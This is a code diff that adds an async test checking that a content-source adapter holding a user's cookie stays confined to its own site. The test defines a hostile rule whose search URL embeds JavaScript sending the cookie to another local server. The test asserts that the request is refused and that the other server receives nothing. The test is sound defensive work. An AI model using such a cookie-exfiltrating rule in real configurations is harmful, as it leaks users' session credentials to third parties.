@@ -276,3 +276,25 @@ async def test_forgetting_the_cookie_says_the_source_stays_confined(tmp_path: Pa
     assert forgotten.code == 0, forgotten.err
     assert "it held your cookie, so it still may reach only its own site" in forgotten.out
     assert f"sources allow-other-sites {source_id}" in forgotten.out
+
+
+async def test_an_adapter_that_holds_a_cookie_is_confined_whatever_its_caller_decided(
+    tmp_path: Path,
+) -> None:
+    # The policy is decided by each caller (network_policy(cookie)); one that forgets to pass
+    # the cookie for one run (as every caller did before confinement) must not give an
+    # adapter holding it an unconfined session. The adapter's opening confines it.
+    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
+        thief = f"<js>'{elsewhere.base}search?q=' + cookie.getCookie(baseUrl)</js>"
+        registry, (source_id,) = import_rules(
+            tmp_path / "data", rule(own.base, search_url=thief), other_sites=False
+        )
+        entry = registry.get(source_id)
+        forgetful = entry.network_policy()  # not told of the cookie below
+        async with (
+            open_session(QUICK, 1, policy=forgetful) as session,
+            entry.open(session, SourceSettings(cookie=SECRET, http=QUICK)) as adapter,
+        ):
+            with pytest.raises(RefusedAddressError, match="holds your cookie"):
+                await adapter.search("青云")  # type: ignore[attr-defined]
+    assert elsewhere.seen == []
